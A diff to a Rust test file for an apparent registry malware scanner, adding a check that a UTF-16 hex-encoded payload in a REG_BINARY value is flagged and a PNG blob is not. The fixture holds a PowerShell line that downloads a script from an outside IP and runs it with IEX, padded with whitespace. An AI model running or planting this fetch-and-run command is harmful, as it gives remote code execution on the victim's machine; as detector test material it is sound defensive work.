@@ -184,11 +184,22 @@ fn a_payload_in_the_registry_is_one_and_a_licence_is_none() {
         "$c=(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1');IEX $c;#{}",
         " ".repeat(1_000)
     );
-    let bad = value(r"HKLM\SOFTWARE\Odd", "REG_SZ", script);
+    let bad = value(r"HKLM\SOFTWARE\Odd", "REG_SZ", script.clone());
     assert_eq!(bad.findings[0].action, Action::Remove, "{:#?}", bad.findings);
     assert_eq!(bad.verdict, Verdict::Infected);
     let program = value(r"HKCU\Software\Odd", "REG_BINARY", format!("4d5a90000300{}", "00".repeat(1_000)));
     assert_eq!((program.findings[0].severity, program.findings[0].action), (Severity::High, Action::Review));
+    let hex = |text: &str| -> String {
+        let bytes = text.encode_utf16().flat_map(u16::to_le_bytes);
+        bytes
+            .flat_map(|byte| [byte >> 4, byte & 15])
+            .filter_map(|digit| char::from_digit(digit.into(), 16))
+            .collect()
+    };
+    let wide = value(r"HKLM\SOFTWARE\Odd", "REG_BINARY", hex(&script));
+    assert_eq!((wide.findings[0].action, wide.verdict), (Action::Remove, Verdict::Infected));
+    let picture = value(r"HKLM\SOFTWARE\Vendor", "REG_BINARY", "89504e470d0a1a0a".repeat(400));
+    assert!(picture.findings.is_empty(), "{:#?}", picture.findings);
     let licence = value(r"HKLM\SOFTWARE\Vendor", "REG_SZ", "QUJDREVGR0hJSktMTU5PUA".repeat(100));
     assert!(licence.findings.is_empty(), "{:#?}", licence.findings);
 }
